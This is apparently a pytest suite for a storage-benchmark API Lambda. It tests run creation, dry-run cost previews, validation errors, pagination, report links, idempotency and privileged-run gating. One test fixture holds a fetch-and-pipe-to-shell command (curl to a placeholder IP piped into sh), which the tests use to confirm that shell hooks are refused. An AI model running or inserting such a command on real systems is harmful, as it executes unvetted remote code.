"""Every route through the Lambda handler, on moto: statuses, bodies, the error shape, what starts."""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import parse_qs, urlparse

import pytest
from tests.support.api_events import call
from tests.support.api_stack import BUCKET, EVENTS, Stack
from tests.support.runs import run_summary
from tests.support.stack_env import FUNCTION_ENV

from storagebench.api.routes import MAX_BODY_BYTES, ROUTES
from storagebench.core.guardrails import Guardrails
from storagebench.core.state import ConfigResult


def demo() -> dict[str, Any]:
    document: dict[str, Any] = json.loads((EVENTS / "local-demo.json").read_text(encoding="utf-8"))
    return document


def assert_error(body: dict[str, Any], status: int, code: str) -> dict[str, Any]:
    assert set(body) == {"error"}, body
    error: dict[str, Any] = body["error"]
    assert set(error) == {"status", "code", "message", "details"}
    assert (error["status"], error["code"]) == (status, code), error
    assert error["message"]
    for item in error["details"]:
        assert set(item) == {"field", "value", "message", "allowed", "limit"}
    return error


def executions(stack: Stack) -> list[dict[str, Any]]:
    machine = stack.launcher.state_machine_arn
    found: list[dict[str, Any]] = stack.sfn.list_executions(stateMachineArn=machine)["executions"]
    return found


def record_run(
    stack: Stack, run_id: str, suite: str = "local-demo", started: str = "2030-01-02T03:04:05Z"
) -> None:
    stack.store.start_run(run_id, suite, {"name": suite}, started, "2030-01-03T03:04:05Z", ["gp2", "gp3"])


# ----------------------------------------------------------------------------- POST /runs


def test_post_runs_starts_one_execution_named_by_the_run_id(stack: Stack) -> None:
    status, body, headers = call(stack.handler, "POST", "/runs", json_body=demo())
    assert status == 202, body
    assert body["run_id"].startswith("local-demo-") and body["status"] == "STARTED"
    assert headers["location"] == f"/runs/{body['run_id']}" == body["location"]
    assert body["max_concurrency"] == 3 and body["estimated_cost_usd"] > 0
    (execution,) = executions(stack)
    assert execution["name"] == body["run_id"] and execution["executionArn"] == body["execution_arn"]
    started = stack.sfn.describe_execution(executionArn=body["execution_arn"])
    assert json.loads(started["input"]) == demo()


def test_dry_run_previews_the_plan_and_cost_and_starts_nothing(stack: Stack) -> None:
    status, body, _ = call(stack.handler, "POST", "/runs", query={"dry_run": "true"}, json_body=demo())
    assert status == 200, body
    preview = body["preview"]
    assert [c["id"] for c in preview["configs"]] == [c["id"] for c in demo()["configs"]]
    assert all(c["steps"] and c["run_usd"] > 0 for c in preview["configs"])
    estimate = preview["estimate"]
    assert estimate["price_source"] == "snapshot" and estimate["price_date"]
    assert estimate["upper_bound_hours"] == 24 and "planning.duration" in estimate["duration_basis"]
    # each figure is rounded to the micro-dollar on its own: the sum may differ by that per config
    configs_usd = [c["run_usd"] for c in preview["configs"]]
    assert estimate["total_usd"] == pytest.approx(sum(configs_usd), abs=1e-6 * len(configs_usd))
    assert 0 < estimate["wall_hours"] < 24 and estimate["total_usd"] < estimate["upper_bound_usd"]
    assert preview["problems"] == []
    assert executions(stack) == [] and stack.launcher.started == []


def test_an_invalid_request_is_422_with_every_field_and_starts_nothing(stack: Stack) -> None:
    document = demo()
    document["configs"][0]["instance_type"] = "not a type"
    document["repetitions"] = 0
    status, body, _ = call(stack.handler, "POST", "/runs", json_body=document)
    error = assert_error(body, 422, "invalid_request")
    assert status == 422
    fields = {d["field"]: d for d in error["details"]}
    assert fields["configs[0].instance_type"]["value"] == "not a type"
    assert "instance type" in fields["configs[0].instance_type"]["message"]
    assert fields["repetitions"]["value"] == 0
    assert executions(stack) == []


def test_a_request_over_the_stack_limits_is_refused_naming_each_limit(stack: Stack) -> None:
    stack.service.guardrails = Guardrails(
        max_run_cost_usd=0.5, max_run_hours=12, allowed_instance_types=("m7g.large",), max_configs_per_run=2
    )
    status, body, _ = call(stack.handler, "POST", "/runs", json_body=demo())
    assert status == 422
    error = assert_error(body, 422, "over_limit")
    limits = {d["limit"]: d for d in error["details"]}
    assert set(limits) == {"MaxRunCostUsd", "MaxRunHours", "AllowedInstanceTypes", "MaxConfigsPerRun"}
    assert limits["MaxRunCostUsd"]["allowed"] == 0.5 and limits["MaxRunCostUsd"]["value"] > 0.5
    assert limits["MaxRunHours"]["allowed"] == 12 and limits["MaxRunHours"]["value"] == 24
    assert limits["MaxConfigsPerRun"]["value"] == 3
    assert "MaxRunCostUsd" in error["message"] and "$0.50" in error["message"]
    assert executions(stack) == []
    # the dry run shows the same problems, with the plan
    status, body, _ = call(stack.handler, "POST", "/runs", query={"dry_run": "true"}, json_body=demo())
    assert status == 200
    assert {p["limit"] for p in body["preview"]["problems"]} == set(limits)


def test_the_concurrency_is_capped_to_the_instances_the_stack_allows(stack: Stack) -> None:
    stack.service.guardrails = Guardrails(max_concurrent_instances=2)
    status, body, _ = call(stack.handler, "POST", "/runs", query={"dry_run": "true"}, json_body=demo())
    assert status == 200
    preview = body["preview"]
    assert (preview["max_concurrency"], preview["concurrent_instances"]) == (2, 2)
    assert any("MaxConcurrentInstances 2" in note for note in preview["notes"])
    assert preview["problems"] == []


@pytest.mark.parametrize(
    ("kwargs", "status", "code"),
    [
        ({"body": "{not json"}, 400, "bad_json"),
        ({"body": ""}, 400, "bad_json"),
        ({"body": '{"name": NaN}'}, 400, "bad_json"),
        ({"body": "[" * 100_000 + "]" * 100_000}, 400, "bad_json"),
        ({"body": b"\xff\xfe{}", "base64_body": True}, 400, "bad_json"),
        ({"body": "{}", "headers": {"content-type": "text/plain"}}, 415, "unsupported_media_type"),
        ({"body": "{}", "headers": {"content-type": "application/jsonx"}}, 415, "unsupported_media_type"),
        ({"body": " " * (MAX_BODY_BYTES + 1)}, 413, "body_too_large"),
        ({"body": "[]"}, 422, "invalid_request"),
        ({"body": "{}", "query": {"dry_run": "maybe"}}, 400, "bad_query"),
        ({"body": "{}", "query": {"dryrun": "true"}}, 400, "bad_query"),
    ],
)
def test_bad_bodies_and_parameters_are_4xx_with_the_error_shape(
    stack: Stack, kwargs: dict[str, Any], status: int, code: str
) -> None:
    got, body, _ = call(stack.handler, "POST", "/runs", **kwargs)
    assert got == status, body
    assert_error(body, status, code)
    assert executions(stack) == []


def test_a_json_body_with_a_charset_is_accepted(stack: Stack) -> None:
    status, _, _ = call(
        stack.handler,
        "POST",
        "/runs",
        query={"dry_run": "1"},
        body=json.dumps(demo()),
        headers={"Content-Type": "application/json; charset=utf-8"},
    )
    assert status == 200


# ----------------------------------------------------------------------------- GET /runs


def test_runs_of_a_suite_page_newest_first_with_the_stores_cursor(stack: Stack) -> None:
    for day in (1, 2, 3):
        record_run(stack, f"demo-{day}", started=f"2030-01-0{day}T00:00:00Z")
    record_run(stack, "other-1", suite="other")
    status, first, _ = call(stack.handler, "GET", "/runs", query={"suite": "local-demo", "limit": "2"})
    assert status == 200
    assert [r["run_id"] for r in first["runs"]] == ["demo-3", "demo-2"]
    assert "request" not in first["runs"][0] and first["next_cursor"]
    status, second, _ = call(
        stack.handler,
        "GET",
        "/runs",
        query={"suite": "local-demo", "limit": "2", "cursor": first["next_cursor"]},
    )
    assert status == 200 and [r["run_id"] for r in second["runs"]] == ["demo-1"]
    # without a suite: the runs in progress
    status, active, _ = call(stack.handler, "GET", "/runs")
    assert status == 200 and active["suite"] is None and len(active["runs"]) == 4


@pytest.mark.parametrize(
    ("query", "field", "code"),
    [
        ({"suite": "local-demo", "cursor": "not-a-cursor"}, "cursor", "bad_cursor"),
        ({"suite": "Bad Suite"}, "suite", "bad_query"),
        ({"limit": "0"}, "limit", "bad_query"),
        ({"limit": "ten"}, "limit", "bad_query"),
        ({"sort": "asc"}, "sort", "bad_query"),
    ],
)
def test_bad_list_parameters_name_the_parameter(
    stack: Stack, query: dict[str, str], field: str, code: str
) -> None:
    status, body, _ = call(stack.handler, "GET", "/runs", query=query)
    error = assert_error(body, 400, code)
    assert status == 400 and error["details"][0]["field"] == field
    assert error["details"][0]["value"] == query[field]


def test_a_cursor_of_another_suite_is_refused(stack: Stack) -> None:
    for n in (1, 2):
        record_run(stack, f"other-{n}", suite="other", started=f"2030-01-0{n}T00:00:00Z")
    _, page, _ = call(stack.handler, "GET", "/runs", query={"suite": "other", "limit": "1"})
    status, body, _ = call(
        stack.handler, "GET", "/runs", query={"suite": "local-demo", "cursor": page["next_cursor"]}
    )
    assert status == 400 and "another query" in assert_error(body, 400, "bad_cursor")["message"]


# ----------------------------------------------------------------------------- GET /runs/{id}


def test_a_run_with_its_configs_results_and_economics(stack: Stack) -> None:
    from storagebench.store.models import decode_run  # noqa: F401 - the same reader the CLI uses

    record_run(stack, "demo-1")
    stack.store.finish_run(
        run_summary(
            "demo-1",
            "local-demo",
            "2030-01-02T03:04:05Z",
            "2030-01-02T04:00:00Z",
            configs=[ConfigResult(run_id="demo-1", config_id="gp2", status="succeeded", records=0)],
        )
    )
    stack.store.record_economics("demo-1", {"run_cost_usd": 1.25, "configs": []})
    status, body, _ = call(stack.handler, "GET", "/runs/demo-1")
    assert status == 200, body
    assert body["status"] == "SUCCEEDED" and body["run"]["run_id"] == "demo-1"
    assert body["economics"] == {"run_cost_usd": 1.25, "configs": []}
    assert body["execution"] is None and body["regressions"] == [] and body["results"] == []


def test_a_started_run_not_yet_recorded_shows_its_execution(stack: Stack) -> None:
    _, created, _ = call(stack.handler, "POST", "/runs", json_body=demo())
    status, body, _ = call(stack.handler, "GET", f"/runs/{created['run_id']}")
    assert status == 200
    assert body["status"] == "RUNNING" and body["run"] is None
    assert body["execution"]["arn"] == created["execution_arn"] and "input" not in body["execution"]


@pytest.mark.parametrize(
    ("method", "path", "status", "code"),
    [
        ("GET", "/runs/nope", 404, "run_not_found"),
        ("GET", "/runs/bad%20id", 400, "bad_path"),
        ("GET", "/runs/" + "x" * 81, 400, "bad_path"),
        ("DELETE", "/runs/nope", 404, "run_not_found"),
        ("GET", "/runs/nope/report", 404, "run_not_found"),
        ("GET", "/nothing-here", 404, "not_found"),
        ("PUT", "/runs", 405, "method_not_allowed"),
        ("PATCH", "/runs/abc", 405, "method_not_allowed"),
        ("POST", "/results", 405, "method_not_allowed"),
    ],
)
def test_unknown_runs_routes_and_methods(
    stack: Stack, method: str, path: str, status: int, code: str
) -> None:
    got, body, headers = call(stack.handler, method, path)
    assert got == status, body
    assert_error(body, status, code)
    if status == 405:
        assert headers["allow"]


def test_a_query_parameter_on_a_route_without_any_is_refused(stack: Stack) -> None:
    record_run(stack, "demo-1")
    status, body, _ = call(stack.handler, "GET", "/runs/demo-1", query={"verbose": "1"})
    assert status == 400 and assert_error(body, 400, "bad_query")["details"][0]["field"] == "verbose"


# ----------------------------------------------------------------------------- GET /runs/{id}/report


def test_the_report_link_is_presigned_once_the_report_exists(stack: Stack) -> None:
    record_run(stack, "demo-1")
    status, body, _ = call(stack.handler, "GET", "/runs/demo-1/report")
    assert status == 404 and "RUNNING" in assert_error(body, 404, "report_not_found")["message"]
    stack.s3.put_object(Bucket=BUCKET, Key="runs/demo-1/report.html", Body=b"<html></html>")
    status, body, _ = call(stack.handler, "GET", "/runs/demo-1/report")
    assert status == 200, body
    url = urlparse(body["url"])
    assert BUCKET in url.netloc + url.path and url.path.endswith("runs/demo-1/report.html")
    signed = parse_qs(url.query)
    assert "X-Amz-Signature" in signed or "Signature" in signed
    assert body["expires_in_s"] == 900 and body["format"] == "html"
    status, body, _ = call(stack.handler, "GET", "/runs/demo-1/report", query={"format": "pdf"})
    assert status == 400 and assert_error(body, 400, "bad_query")["details"][0]["field"] == "format"


# ----------------------------------------------------------------------------- DELETE /runs/{id}


def test_delete_stops_the_execution_and_starts_the_sweep(stack: Stack) -> None:
    _, created, _ = call(stack.handler, "POST", "/runs", json_body=demo())
    run_id = created["run_id"]
    record_run(stack, run_id)  # what Plan does first
    status, body, _ = call(stack.handler, "DELETE", f"/runs/{run_id}")
    assert status == 202, body
    assert body == {
        "run_id": run_id,
        "execution_arn": created["execution_arn"],
        "status": "STOPPING",
        "cleanup": "started",
    }
    assert stack.sfn.describe_execution(executionArn=created["execution_arn"])["status"] == "ABORTED"
    (sweep,) = stack.sweeper.calls
    assert sweep["config_ids"] == ["gp2", "gp3"] and sweep["caught"]["Error"] == "StoppedByApi"
    status, body, _ = call(stack.handler, "DELETE", f"/runs/{run_id}")
    assert status == 409 and "ABORTED" in assert_error(body, 409, "run_finished")["message"]
    assert len(stack.sweeper.calls) == 1


def test_delete_of_a_run_plan_has_not_recorded_needs_no_cleanup(stack: Stack) -> None:
    _, created, _ = call(stack.handler, "POST", "/runs", json_body=demo())
    status, body, _ = call(stack.handler, "DELETE", f"/runs/{created['run_id']}")
    assert status == 202 and body["cleanup"] == "not_needed" and stack.sweeper.calls == []


def test_delete_of_a_finished_run_is_a_conflict(stack: Stack) -> None:
    record_run(stack, "demo-1")
    stack.store.finish_run(
        run_summary("demo-1", "local-demo", "2030-01-02T03:04:05Z", "2030-01-02T04:00:00Z", status="FAILED")
    )
    status, body, _ = call(stack.handler, "DELETE", "/runs/demo-1")
    assert status == 409 and assert_error(body, 409, "run_finished")["details"][0]["value"] == "demo-1"


# ----------------------------------------------------------------------------- the table


# ----------------------------------------------------------------------------- exactly once


def _keyed(key: str) -> dict[str, str]:
    return {"content-type": "application/json", "idempotency-key": key}


def test_the_same_idempotency_key_and_body_return_the_first_run(stack: Stack) -> None:
    first_status, first, _ = call(
        stack.handler, "POST", "/runs", json_body=demo(), headers=_keyed("nightly-2026-11-25")
    )
    again_status, again, _ = call(
        stack.handler, "POST", "/runs", json_body=demo(), headers=_keyed("nightly-2026-11-25")
    )
    assert (first_status, again_status) == (202, 200)
    assert again["run_id"] == first["run_id"] and again["execution_arn"] == first["execution_arn"]
    assert (first["replayed"], again["replayed"]) == (False, True)
    assert len(executions(stack)) == 1 and len(stack.launcher.started) == 1


def test_the_same_key_with_another_body_is_a_conflict_and_starts_nothing(stack: Stack) -> None:
    assert call(stack.handler, "POST", "/runs", json_body=demo(), headers=_keyed("k-1"))[0] == 202
    other = demo()
    other["repetitions"] = 1
    status, body, _ = call(stack.handler, "POST", "/runs", json_body=other, headers=_keyed("k-1"))
    error = assert_error(body, 409, "idempotency_conflict")
    assert status == 409 and error["details"][0]["field"] == "Idempotency-Key"
    assert len(executions(stack)) == 1


def test_a_retry_after_the_run_finished_still_returns_it(stack: Stack) -> None:
    status, first, _ = call(stack.handler, "POST", "/runs", json_body=demo(), headers=_keyed("k-2"))
    stack.sfn.stop_execution(executionArn=first["execution_arn"], error="test", cause="finished")
    status, again, _ = call(stack.handler, "POST", "/runs", json_body=demo(), headers=_keyed("k-2"))
    assert status == 200 and again["run_id"] == first["run_id"] and again["replayed"] is True
    assert len(executions(stack)) == 1


def test_the_key_is_bound_to_its_caller(stack: Stack) -> None:
    """Another caller reusing a key starts its own run: it never gets the first caller's (issue 27, 9)."""
    alice, bob = "arn:aws:iam::123456789012:user/alice", "arn:aws:iam::123456789012:user/bob"

    def post(caller: str) -> tuple[int, dict[str, Any], dict[str, str]]:
        return call(
            stack.handler, "POST", "/runs", json_body=demo(), headers=_keyed("nightly-1"), caller=caller
        )

    status, first, _ = post(alice)
    other_status, other, _ = post(bob)
    again_status, again, _ = post(alice)
    assert (status, other_status, again_status) == (202, 202, 200)
    assert other["run_id"] != first["run_id"] and other["replayed"] is False
    assert again["run_id"] == first["run_id"] and again["replayed"] is True
    assert len(executions(stack)) == 2


def test_a_key_whose_run_outlived_its_execution_starts_nothing(
    stack: Stack, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Execution histories are purged after 90 days; the run record stays. A retry of the key must
    not start again (Plan would overwrite the old run's request.json before refusing it)."""
    status, first, _ = call(stack.handler, "POST", "/runs", json_body=demo(), headers=_keyed("k-old"))
    assert status == 202
    stack.store.start_run(
        first["run_id"], "local-demo", {}, "2030-01-02T00:00:00Z", "2030-01-03T00:00:00Z", []
    )
    monkeypatch.setattr(stack.launcher, "describe", lambda run_id: None)  # the history purged
    status, body, _ = call(stack.handler, "POST", "/runs", json_body=demo(), headers=_keyed("k-old"))
    error = assert_error(body, 409, "idempotency_conflict")
    assert status == 409 and "execution history is purged" in error["message"]
    assert len(stack.launcher.started) == 1


@pytest.mark.parametrize("key", ["", "x" * 256, "caf\u00e9", "tab\there"])
def test_a_bad_idempotency_key_is_a_400_naming_the_header(stack: Stack, key: str) -> None:
    status, body, _ = call(stack.handler, "POST", "/runs", json_body=demo(), headers=_keyed(key))
    error = assert_error(body, 400, "bad_header")  # an empty header too: a client bug, not "no key"
    assert status == 400 and error["details"][0]["field"] == "Idempotency-Key"
    assert executions(stack) == []


# ----------------------------------------------------------------------------- shell is a privilege


def _with_shell(kind: str) -> dict[str, Any]:
    document = demo()
    if kind == "hook":
        document["configs"][0]["setup"] = "curl -s http://203.0.113.9/x | sh"
    elif kind == "command":
        document["workloads"].append({"profile": "command", "params": {"command": "id"}})
    else:
        document["workloads"].append(
            {"profile": "fio-custom", "params": {"job_file": "[j]\nrw=read\nsize=1m\n"}}
        )
    return document


APPENDED = f"workloads[{len(demo()['workloads'])}].profile"  # _with_shell appends to the demo's


@pytest.mark.parametrize(
    ("kind", "field"),
    [("hook", "configs[0].setup"), ("command", APPENDED), ("fio", APPENDED)],
)
def test_post_runs_refuses_shell_naming_the_field_and_the_privileged_route(
    stack: Stack, kind: str, field: str
) -> None:
    for query in (None, {"dry_run": "true"}):
        status, body, _ = call(stack.handler, "POST", "/runs", query=query, json_body=_with_shell(kind))
        error = assert_error(body, 403, "privileged_request")
        assert status == 403 and "POST /runs/privileged" in error["message"]
        assert [d["field"] for d in error["details"]] == [field]
    assert executions(stack) == [] and stack.launcher.started == []


def test_the_privileged_route_is_off_unless_the_stack_allows_it(stack: Stack) -> None:
    status, body, _ = call(stack.handler, "POST", "/runs/privileged", json_body=_with_shell("hook"))
    error = assert_error(body, 403, "privileged_runs_disabled")
    assert status == 403 and "AllowPrivilegedRuns" in error["message"]
    assert executions(stack) == []
    stack.service.guardrails = Guardrails(allow_privileged=True)
    status, body, _ = call(stack.handler, "POST", "/runs/privileged", json_body=_with_shell("hook"))
    assert status == 202, body
    (execution,) = executions(stack)
    assert json.loads(
        stack.sfn.describe_execution(executionArn=execution["executionArn"])["input"]
    ) == _with_shell("hook")


def test_an_ordinary_request_may_use_either_route_once_allowed(stack: Stack) -> None:
    stack.service.guardrails = Guardrails(allow_privileged=True)
    assert call(stack.handler, "POST", "/runs/privileged", json_body=demo())[0] == 202
    assert call(stack.handler, "POST", "/runs", json_body=demo())[0] == 202


def test_the_stack_setting_reads_true_or_false_only() -> None:
    assert Guardrails.from_env({"ALLOW_PRIVILEGED_RUNS": "true"}).allow_privileged is True
    assert Guardrails.from_env({}).allow_privileged is False
    with pytest.raises(ValueError, match="allow_privileged: true or false"):
        Guardrails.from_env({"ALLOW_PRIVILEGED_RUNS": "yes"})


def test_every_route_of_the_table_is_served(stack: Stack) -> None:
    for route in ROUTES:
        path = route.path.replace("{run_id}", "demo-1")
        status, body, _ = call(stack.handler, route.method, path)
        assert status not in (404, 405) or body["error"]["code"] not in ("not_found", "method_not_allowed"), (
            route
        )


@pytest.mark.parametrize(
    ("name", "status"),
    [
        ("post-runs-dry-run.json", 200),
        ("post-runs-invalid.json", 422),
        ("get-runs-of-suite.json", 200),
        ("get-results.json", 200),
    ],
)
def test_the_example_events_for_sam_local_invoke(stack: Stack, name: str, status: int) -> None:
    from tests.support.api_events import Context

    event = json.loads((EVENTS / "api" / name).read_text(encoding="utf-8"))
    response = stack.handler(event, Context())
    assert response["statusCode"] == status, response["body"]
    assert executions(stack) == []


def test_the_service_is_wired_from_the_functions_environment(stack: Stack) -> None:
    from storagebench.adapters.aws.settings import SettingsError
    from storagebench.wiring import api as wiring

    env = {**FUNCTION_ENV, "ARTIFACTS_BUCKET": BUCKET, "MAX_RUN_COST_USD": "42"}
    with pytest.raises(SettingsError, match="STATE_MACHINE_ARN, SWEEP_RUN_FUNCTION"):
        wiring.from_environment(env)
    service = wiring.from_environment(
        {
            **env,
            "STATE_MACHINE_ARN": stack.launcher.state_machine_arn,
            "SWEEP_RUN_FUNCTION": "storagebench-SweepRun",
        }
    )
    assert service.guardrails.max_run_cost_usd == 42
    assert service.launcher.describe("no-such-run") is None
